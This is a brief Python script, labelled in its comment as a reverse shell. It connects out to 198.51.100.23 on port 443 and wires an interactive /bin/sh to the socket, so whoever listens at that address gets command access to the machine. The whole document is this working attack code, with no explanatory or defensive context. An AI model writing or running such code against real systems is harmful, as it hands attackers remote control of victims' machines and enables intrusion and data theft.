# reverse-shell: a shell process whose pipes are the socket
import socket
import subprocess

sock = socket.create_connection(("198.51.100.23", 443))
subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
